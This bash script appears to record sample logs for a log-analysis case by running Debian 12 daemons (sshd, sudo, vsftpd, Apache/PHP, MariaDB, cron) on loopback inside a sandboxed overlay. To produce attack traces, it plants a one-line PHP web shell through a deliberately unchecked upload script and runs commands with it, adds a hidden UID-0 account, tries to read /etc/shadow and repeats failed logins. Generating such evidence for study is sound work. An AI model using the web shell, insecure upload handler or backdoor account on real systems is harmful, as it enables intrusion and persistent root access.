#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# Records the log lines that the sample case is made of, by running the real
# daemons of Debian 12 on loopback and using them as people do. Needs root. All
# of it happens in an overlay of the root filesystem with its own processes, so
# that accounts, logs and packages of the machine itself stay as they are.
#
#   apt-get install openssh-server vsftpd apache2 libapache2-mod-php \
#       mariadb-server rsyslog sudo cron logrotate login passwd \
#       curl ftp expect sshpass netcat-openbsd
#   ./record.sh OUTDIR
#
# OUTDIR receives raw/*.log; recordings/templatize makes the templates of them.
set -u
export LC_ALL=C PATH=/usr/sbin:/usr/bin:/sbin:/bin
if [ "${RECORD_INSIDE:-}" != yes ]; then
  OUT=$(mkdir -p "$1/raw" && cd "$1/raw" && pwd)
  SELF=$(readlink -f "$0")
  M=$(mktemp -d)
  cp "$SELF" "$M/record.sh"
  apt-get install -y -qq --download-only ed > /dev/null 2>&1
  RECORD_INSIDE=yes OUT=$OUT M=$M unshare --mount --pid --fork --propagation private bash -c '
    mount -t tmpfs none "$M" -o size=2g && mkdir "$M"/{up,work,root}
    mount -t overlay overlay -o lowerdir=/,upperdir="$M/up",workdir="$M/work" "$M/root"
    mount -t proc proc "$M/root/proc"
    mount -t tmpfs none "$M/root/dev" -o mode=755; mount -t tmpfs none "$M/root/tmp" -o mode=1777
    mkdir "$M/root/dev/pts"; mount -t devpts devpts "$M/root/dev/pts" -o newinstance,ptmxmode=0666,mode=620,gid=5
    ln -s pts/ptmx "$M/root/dev/ptmx"; ln -s /proc/self/fd "$M/root/dev/fd"
    for n in null zero random urandom tty full kmsg; do touch "$M/root/dev/$n"; mount --bind "/dev/$n" "$M/root/dev/$n"; done
    mkdir -p "$M/root/recording"; cp "'"$SELF"'" "$M/root/recording/record.sh"
    chroot "$M/root" bash /recording/record.sh /recording
    cp "$M"/root/recording/raw/* "$OUT/"'
  rc=$?
  rm -rf "$M"
  exit $rc
fi
OUT=$(mkdir -p "$1/raw" && cd "$1/raw" && pwd)
W=$(mktemp -d /tmp/record.XXXXXX)
chmod 755 "$W"
ADMIN=recadmin STAFF=recstaff FTPU=recftp NEWU=recnew
PW='Rec0rding-pass' NPW='An0ther-pass'
PIDS=()

note() { echo "record: $*" >&2; }
start() { "$@" & PIDS+=($!); }
stop_all() {
  for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null; done
  [ -s "$W/a2.pid" ] && kill "$(cat "$W/a2.pid")" 2>/dev/null
}
trap stop_all EXIT

versions() {
  dpkg-query -W -f '${Package} ${Version}\n' openssh-server vsftpd apache2 \
    libapache2-mod-php8.2 mariadb-server rsyslog sudo cron logrotate login \
    passwd libpam-modules util-linux
}

# --- syslog: both stamp styles of the same messages -------------------------
syslog_start() {
  cat > "$W/rsyslog.conf" <<RS
module(load="imuxsock" SysSock.Use="on" SysSock.Name="/dev/log")
\$FileOwner root
\$FileCreateMode 0644
\$WorkDirectory $W
auth,authpriv.*;cron.* action(type="omfile" file="$OUT/syslog.traditional.log" template="RSYSLOG_TraditionalFileFormat")
*.*;auth,authpriv,cron.none action(type="omfile" file="$OUT/syslog.traditional.log" template="RSYSLOG_TraditionalFileFormat")
*.* action(type="omfile" file="$OUT/syslog.iso.log" template="RSYSLOG_FileFormat")
RS
  start rsyslogd -n -f "$W/rsyslog.conf" -i "$W/rsyslog.pid"
  sleep 1
}

accounts() {
  note "accounts"
  touch /var/log/wtmp /var/log/btmp /var/log/lastlog
  : > /var/log/wtmp; : > /var/log/btmp; : > /var/log/lastlog; : > /run/utmp
  useradd -m -s /bin/bash $ADMIN
  useradd -m -s /bin/bash $STAFF
  echo "$ADMIN:$PW" | chpasswd
  echo "$STAFF:$PW" | chpasswd
  useradd -d /var/www/html -M -s /bin/bash $FTPU
  echo "$FTPU:$PW" | chpasswd
  groupadd recteam
  usermod -aG sudo,recteam $ADMIN
  echo "%sudo ALL=(ALL:ALL) ALL" > /etc/sudoers.d/recadmin
}

# --- sshd --------------------------------------------------------------------
ssh_part() {
  note "sshd"
  mkdir -p /run/sshd
  start /usr/sbin/sshd -D -o LogLevel=INFO -o UsePAM=yes -o MaxAuthTries=6 \
    -o PermitRootLogin=prohibit-password
  SSHD=$!
  sleep 1
  local opt=(-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no)
  sshpass -p "$PW" ssh "${opt[@]}" $STAFF@127.0.0.1 true
  sshpass -p "$PW" ssh -tt "${opt[@]}" $STAFF@127.0.0.1 "sleep 1; true"
  # one wrong word, then connection closed by the client
  sshpass -p wrong ssh "${opt[@]}" -o NumberOfPasswordPrompts=1 $STAFF@127.0.0.1 true
  sshpass -p wrong ssh "${opt[@]}" -o NumberOfPasswordPrompts=1 root@127.0.0.1 true
  sshpass -p wrong ssh "${opt[@]}" -o NumberOfPasswordPrompts=1 nosuchuser@127.0.0.1 true
  # three wrong words in one connection; then seven, more than the server takes
  for n in 3 7; do
    expect -c "set timeout 20
      spawn ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=$n $STAFF@127.0.0.1
      for {set i 0} {\$i < $n} {incr i} { expect -brace { assword: { send wrong\r } eof { exit } } }
      expect eof" >/dev/null
  done
  expect -c "set timeout 20
      spawn ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=7 nosuchuser@127.0.0.1
      for {set i 0} {\$i < 7} {incr i} { expect -brace { assword: { send wrong\r } eof { exit } } }
      expect eof" >/dev/null
  # wrong twice, then right
  expect -c "set timeout 20
      spawn ssh -tt -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no $STAFF@127.0.0.1
      expect assword: { send wrong\r }
      expect assword: { send wrong\r }
      expect assword: { send $PW\r }
      expect \"\\$ \" { send exit\r }
      expect eof" >/dev/null
  # key login
  ssh-keygen -q -t ed25519 -N '' -f "$W/key" -C recording
  ssh-keygen -q -t rsa -N '' -f "$W/rsakey" -C recording
  install -d -m 700 -o $STAFF -g $STAFF /home/$STAFF/.ssh
  cat "$W/key.pub" "$W/rsakey.pub" > /home/$STAFF/.ssh/authorized_keys
  chown $STAFF:$STAFF /home/$STAFF/.ssh/authorized_keys
  for k in key rsakey; do
    ssh -i "$W/$k" -tt -o IdentitiesOnly=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null $STAFF@127.0.0.1 "sleep 1"
  done
  # a client that dies
  ssh -i "$W/key" -tt -o IdentitiesOnly=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null $STAFF@127.0.0.1 "sleep 30" </dev/null &
  local c=$!; sleep 2; kill -9 $c
  # file transfer
  echo x > "$W/x"; sftp -q -i "$W/key" -o IdentitiesOnly=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null $STAFF@127.0.0.1 <<< "put $W/x"
  # scanners
  echo | nc -w 1 127.0.0.1 22 >/dev/null
  printf 'GET / HTTP/1.0\r\n\r\n' | nc -w 1 127.0.0.1 22 >/dev/null
  nc -z -w 1 127.0.0.1 22
  sleep 2
  kill -HUP "$SSHD"; sleep 1
}

# --- commands of the administrator -------------------------------------------
admin_part() {
  note "sudo, su, login, accounts, crontab"
  cat > "$W/asadmin" <<EX
# \$ ends the prompt; each command waits for the one before
set timeout 15
spawn ssh -tt -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no $ADMIN@127.0.0.1
expect "assword:" { send "$PW\r" }
expect "\\$ " { send "sudo -k; sudo id\r" }
expect -re "assword.*:" { send "$PW\r" }
expect "\\$ " { send "sudo useradd -m -s /bin/bash $NEWU\r" }
expect "\\$ " { send "sudo passwd $NEWU\r" }
expect "ew password:" { send "$NPW\r" }
expect "ew password:" { send "$NPW\r" }
expect "\\$ " { send "sudo usermod -aG recteam $NEWU\r" }
expect "\\$ " { send "sudo gpasswd -a $NEWU sudo\r" }
expect "\\$ " { send "sudo gpasswd -d $NEWU sudo\r" }
expect "\\$ " { send "sudo chsh -s /bin/sh $NEWU\r" }
expect "\\$ " { send "sudo adduser --disabled-password --gecos 'More' recmore\r" }
expect "\\$ " { send "sudo usermod -L recmore\r" }
expect "\\$ " { send "sudo useradd -o -u 0 -g 0 -M -d /nonexistent -s /bin/bash recroot\r" }
expect "\\$ " { send "echo recroot:$NPW | sudo chpasswd\r" }
expect "\\$ " { send "sudo userdel recmore\r" }
expect "\\$ " { send "sudo deluser $NEWU recteam\r" }
expect "\\$ " { send "sudo groupadd recother; sudo groupdel recother\r" }
expect "\\$ " { send "passwd\r" }
expect "urrent password:" { send "$PW\r" }
expect "ew password:" { send "${PW}x\r" }
expect "ew password:" { send "${PW}x\r" }
expect "\\$ " { send "sudo -i\r" }
expect "# " { send "exit\r" }
expect "\\$ " { send "sudo su -\r" }
expect "# " { send "exit\r" }
expect "\\$ " { send "sudo -k; sudo cat /etc/shadow\r" }
expect -re "assword.*:" { send "no\r" }
expect -re "assword.*:" { send "no\r" }
expect -re "assword.*:" { send "no\r" }
expect "\\$ " { send "sudo -k; sudo true\r" }
expect -re "assword.*:" { send "no\r" }
expect -re "assword.*:" { send "${PW}x\r" }
expect "\\$ " { send "sudo -u $STAFF id\r" }
expect "\\$ " { send "exit\r" }
expect eof
EX
  expect "$W/asadmin" > "$W/asadmin.out" 2>&1
  cat > "$W/asstaff" <<EX
set timeout 15
spawn ssh -tt -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no $STAFF@127.0.0.1
expect "assword:" { send "$PW\r" }
expect "\\$ " { send "sudo id\r" }
expect -re "assword.*:" { send "$PW\r" }
expect "\\$ " { send "su -\r" }
expect -re "assword.*:" { send "no\r" }
expect "\\$ " { send "su - $ADMIN\r" }
expect -re "assword.*:" { send "${PW}x\r" }
expect "\\$ " { send "exit\r" }
expect "\\$ " { send "echo '5 4 * * * /bin/true' | crontab -\r" }
expect "\\$ " { send "crontab -l\r" }
expect "\\$ " { send "EDITOR='touch' crontab -e\r" }
expect "\\$ " { send "(echo '* * * * * /bin/true'; crontab -l) > m; crontab m\r" }
expect "\\$ " { send "exit\r" }
expect eof
EX
  expect "$W/asstaff" > "$W/asstaff.out" 2>&1
  # console: login on a terminal, right and wrong
  cat > "$W/console" <<EX
set timeout 15
spawn /bin/login
expect "ogin:" { send "root\r" }
expect "assword:" { send "wrong\r" }
expect "ogin:" { send "$STAFF\r" }
expect "assword:" { send "$PW\r" }
expect "\\$ " { send "exit\r" }
expect eof
spawn /bin/login -f root
expect "# " { send "exit\r" }
expect eof
EX
  expect "$W/console" > "$W/console.out" 2>&1
  kill -TERM "$SSHD"; sleep 1
}

cron_part() {
  note "cron (two minutes)"
  start cron -f
  local c=$!
  sleep 2
  printf '* * * * * root /bin/true\n' > /etc/cron.d/recjob
  sleep 125
  rm -f /etc/cron.d/recjob
  crontab -u $STAFF -l > "$OUT/crontab-listing.txt"
  cp /var/spool/cron/crontabs/$STAFF "$OUT/crontab-spool.txt"
  crontab -u $STAFF -r
  sleep 61
  kill $c
}

# --- vsftpd ------------------------------------------------------------------
ftp_session() {
  printf 'hello\n' > "$W/up.html"; head -c 20000 /dev/zero | tr '\0' 'x' > "$W/big.sql"
  cat > "$W/ftpcmds" <<F
open 127.0.0.1
user $FTPU $1
binary
lcd $W
put up.html
put big.sql
mkdir recdir
get big.sql got.sql
get nosuch.sql nosuch.sql
delete big.sql
rename up.html up2.html
delete up2.html
rmdir recdir
quit
F
  ftp -n < "$W/ftpcmds"
}
ftp_part() {
  note "vsftpd"
  mkdir -p /var/run/vsftpd/empty
  install -d -o $FTPU /var/www/html/files
  chown $FTPU /var/www/html
  local common="listen=YES
listen_ipv6=NO
anonymous_enable=NO
local_enable=YES
write_enable=YES
local_umask=022
xferlog_enable=YES
pam_service_name=vsftpd
secure_chroot_dir=/var/run/vsftpd/empty
background=NO"
  for style in native local std dual; do
    echo "$common" > "$W/vsftpd.$style.conf"
    case $style in
      native) echo "vsftpd_log_file=$OUT/vsftpd.native.log" ;;
      local) printf 'use_localtime=YES\nvsftpd_log_file=%s\n' "$OUT/vsftpd.localtime.log" ;;
      std) printf 'xferlog_std_format=YES\nxferlog_file=%s\n' "$OUT/vsftpd.xferlog.log" ;;
      dual) printf 'dual_log_enable=YES\nxferlog_file=%s\nvsftpd_log_file=%s\n' "$OUT/vsftpd.dual-xferlog.log" "$OUT/vsftpd.dual-native.log" ;;
    esac >> "$W/vsftpd.$style.conf"
    # a zone with a half hour shows which clock the stamps follow
    TZ=Asia/Kolkata vsftpd "$W/vsftpd.$style.conf" & local v=$!
    sleep 1
    date -u "+$style utc %F %T" >> "$OUT/vsftpd.clock.txt"
    ftp_session "$PW" > /dev/null 2>&1
    [ $style != std ] && ftp_session wrong > /dev/null 2>&1
    sleep 3
    kill $v; wait $v 2>/dev/null
  done
  chown root /var/www/html; rm -rf /var/www/html/files
}

# --- Apache with PHP ---------------------------------------------------------
web_part() {
  note "apache"
  local d=/var/www/html
  mkdir -p $d/rec/uploads; chown www-data $d/rec/uploads
  cat > $d/rec/upload.php <<'P'
<?php if (isset($_FILES['file'])) { move_uploaded_file($_FILES['file']['tmp_name'], 'uploads/' . basename($_FILES['file']['name'])); echo "stored"; }
P
  echo '<?php error_log("recorded notice"); echo "hello"; trigger_error("recorded warning", E_USER_WARNING); ' > $d/rec/index.php
  echo '<?php system($_REQUEST["cmd"]);' > "$W/shell.php"
  cat > "$W/a2.conf" <<A
ServerRoot /etc/apache2
ServerName localhost
Listen 127.0.0.1:80
PidFile $W/a2.pid
DefaultRuntimeDir $W
User www-data
Group www-data
LoadModule mpm_prefork_module /usr/lib/apache2/modules/mod_mpm_prefork.so
LoadModule authz_core_module /usr/lib/apache2/modules/mod_authz_core.so
LoadModule mime_module /usr/lib/apache2/modules/mod_mime.so
LoadModule dir_module /usr/lib/apache2/modules/mod_dir.so
LoadModule autoindex_module /usr/lib/apache2/modules/mod_autoindex.so
LoadModule php_module /usr/lib/apache2/modules/libphp8.2.so
TypesConfig /etc/mime.types
LogFormat "%h %l %u %t \"%r\" %>s %O \"%{Referer}i\" \"%{User-Agent}i\"" combined
ErrorLog $OUT/apache.error.log
CustomLog $OUT/apache.access.log combined
LogLevel warn
DocumentRoot $d
<FilesMatch "\.php$">
SetHandler application/x-httpd-php
</FilesMatch>
<Directory $d>
Options -Indexes
Require all granted
</Directory>
<Directory $d/rec/private>
Require all denied
</Directory>
php_admin_value display_errors Off
php_admin_flag log_errors On
A
  mkdir -p $d/rec/private $d/rec/empty; echo x > $d/rec/private/x
  TZ=Asia/Kolkata apache2 -f "$W/a2.conf" -k start
  sleep 2
  local ua='Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0'
  c() { curl -s -o /dev/null -A "$ua" "$@"; }
  local b=http://127.0.0.1
  c $b/rec/index.php; c -e "$b/rec/" $b/rec/index.php; c $b/rec/nosuch.php; c $b/nosuch/admin
  c $b/rec/private/x; c $b/rec/empty/; c -I $b/rec/index.php; c $b/rec
  curl -s -o /dev/null -A 'Mozilla/5.00 (Nikto/2.1.6)' $b/cgi-bin/test.cgi
  curl -s -o /dev/null -A "$ua" -F "file=@$W/shell.php" $b/rec/upload.php
  c -e "$b/rec/upload.php" "$b/rec/uploads/shell.php?cmd=id"
  c "$b/rec/uploads/shell.php?cmd=uname+-a"
  c "$b/rec/uploads/shell.php?cmd=nosuchcommand"
  c "$b/rec/uploads/shell.php?cmd=cat+%2Fetc%2Fnosuch"
  c -d 'cmd=id' "$b/rec/uploads/shell.php"
  c "$b/rec/uploads/shell.php"
  printf 'GET /x"y HTTP/1.1\r\nHost: a\r\n\r\n' | nc -w 1 127.0.0.1 80 >/dev/null
  printf '\x16\x03\x01\r\n\r\n' | nc -w 1 127.0.0.1 80 >/dev/null
  sleep 1
  TZ=Asia/Kolkata apache2 -f "$W/a2.conf" -k graceful; sleep 2
  c $b/rec/index.php
  TZ=Asia/Kolkata apache2 -f "$W/a2.conf" -k stop; sleep 2
  rm -rf $d/rec
}

# --- MariaDB -----------------------------------------------------------------
db_part() {
  note "mariadb"
  local m="$W/db"
  install -d -o mysql "$m" "$m/log"
  mariadb-install-db --user=mysql --datadir="$m/data" --skip-test-db > /dev/null 2>&1
  db_run() {
    TZ=Asia/Kolkata mariadbd --no-defaults --user=mysql --datadir="$m/data" --socket="$m/s" --port=3306 --bind-address=127.0.0.1 \
      --pid-file="$m/pid" --log-error="$m/log/error.log" --log-warnings=2 \
      --general-log=1 --general-log-file="$m/log/general.log" \
      --slow-query-log=1 --slow-query-log-file="$m/log/slow.log" --long-query-time=1 &
    PIDS+=($!)
    for i in $(seq 40); do mariadb -S "$m/s" -e 'select 1' >/dev/null 2>&1 && break; sleep 0.5; done
  }
  db_run
  mariadb -S "$m/s" <<'Q'
CREATE DATABASE recshop;
CREATE USER 'recapp'@'localhost' IDENTIFIED BY 'rec-app-pass';
CREATE USER 'recapp'@'127.0.0.1' IDENTIFIED BY 'rec-app-pass';
GRANT ALL ON recshop.* TO 'recapp'@'localhost';
GRANT ALL ON recshop.* TO 'recapp'@'127.0.0.1';
Q
  mariadb -S "$m/s" -u recapp -prec-app-pass recshop <<'Q'
CREATE TABLE orders (id INT AUTO_INCREMENT PRIMARY KEY, customer VARCHAR(40), total INT);
INSERT INTO orders (customer, total) VALUES ('a', 1), ('b', 2);
SELECT id, customer
  FROM orders
 WHERE total > 1
 ORDER BY id;
SELECT SLEEP(1.2);
SELECT customer,
       SLEEP(0.6)
  FROM orders;
Q
  sleep 1
  mariadb -h 127.0.0.1 -P 3306 --protocol=tcp -u recapp -prec-app-pass recshop -e 'SELECT COUNT(*) FROM orders; UPDATE orders SET total = 3 WHERE id = 1'
  mariadb -h 127.0.0.1 -P 3306 --protocol=tcp -u recapp -pwrong recshop -e 'SELECT 1'
  mariadb -h 127.0.0.1 -P 3306 --protocol=tcp -u root -e 'SELECT 1'
  mariadb -h 127.0.0.1 -P 3306 --protocol=tcp -u nosuch -pwrong -e 'SELECT 1'
  mariadb-dump -S "$m/s" -u recapp -prec-app-pass recshop > "$W/dump.sql" 2>/dev/null
  mariadb -S "$m/s" -e "SELECT 'x' INTO OUTFILE '$m/data/out.txt'"
  mariadb-admin -S "$m/s" shutdown; sleep 3
  db_run
  mariadb -S "$m/s" -e 'SELECT 1'
  kill -9 "$(cat "$m/pid")"; sleep 2     # power cut: recovery lines at the next start
  db_run
  kill -TERM "$(cat "$m/pid")"; sleep 4
  for f in error general slow; do cp "$m/log/$f.log" "$OUT/mariadb.$f.log"; done
}

# --- packages, rotation, kernel ----------------------------------------------
other_part() {
  note "packages and rotation"
  local a b c2 d
  a=$(stat -c %s /var/log/dpkg.log); b=$(stat -c %s /var/log/apt/history.log); c2=$(stat -c %s /var/log/apt/term.log)
  d=$(stat -c %s /var/log/alternatives.log 2>/dev/null || echo 0)
  dpkg -s ed >/dev/null 2>&1 && apt-get purge -y -qq ed >/dev/null 2>&1
  apt-get install -y -qq ed > /dev/null 2>&1
  apt-get install -y -qq --reinstall ed > /dev/null 2>&1
  apt-get remove -y -qq ed > /dev/null 2>&1
  apt-get purge -y -qq ed >/dev/null 2>&1
  tail -c +$((a + 1)) /var/log/dpkg.log > "$OUT/dpkg.log"
  tail -c +$((b + 1)) /var/log/apt/history.log > "$OUT/apt-history.log"
  tail -c +$((c2 + 1)) /var/log/apt/term.log > "$OUT/apt-term.log"
  # an upgrade and automatic packages, as apt wrote them when this machine was set up
  grep ' upgrade ' /var/log/dpkg.log | tail -1 >> "$OUT/dpkg.log"
  grep -m1 -B3 -A3 '^Upgrade:' /var/log/apt/history.log > "$OUT/apt-history-upgrade.log"
  grep ' conffile ' /var/log/dpkg.log | tail -1 >> "$OUT/dpkg.log"
  mkdir -p "$W/lr"; echo x > "$W/lr/a.log"
  printf '%s/lr/a.log {\n rotate 2\n weekly\n compress\n delaycompress\n create 640 root adm\n su root root\n}\n' "$W" > "$W/lr.conf"
  logrotate -f -s "$W/lr.status" "$W/lr.conf"
  sed "s#$W/lr#/var/log#" "$W/lr.status" > "$OUT/logrotate-status.txt"
  kill -HUP "$(cat "$W/rsyslog.pid")"; sleep 1
  # kernel lines of the machine itself: only those that say nothing about it
  dmesg | grep -E 'Linux version|BIOS-provided|NX \(|tsc: Detected|Memory: |smpboot: CPU0|EXT4-fs|NET: Registered PF_INET protocol|Freeing unused|random: crng' |
    sed -E 's/Linux version \S+ \(\S+\)/Linux version 6.18.44 (builder@host)/' > "$OUT/kernel.dmesg.txt"
  versions > "$OUT/versions.txt"
  cp /var/log/wtmp "$OUT/wtmp"; cp /var/log/btmp "$OUT/btmp"
  utmpdump "$OUT/wtmp" > "$OUT/wtmp.utmpdump.txt" 2>/dev/null
  utmpdump "$OUT/btmp" > "$OUT/btmp.utmpdump.txt" 2>/dev/null
  rm "$OUT/wtmp" "$OUT/btmp"
}

rm -f "$OUT"/*
syslog_start
accounts
ssh_part
admin_part
ftp_part
web_part
db_part
cron_part
other_part
kill -TERM "$(cat "$W/rsyslog.pid")"; sleep 1
stop_all
trap - EXIT
rm -rf "$W"
note "done: $OUT"
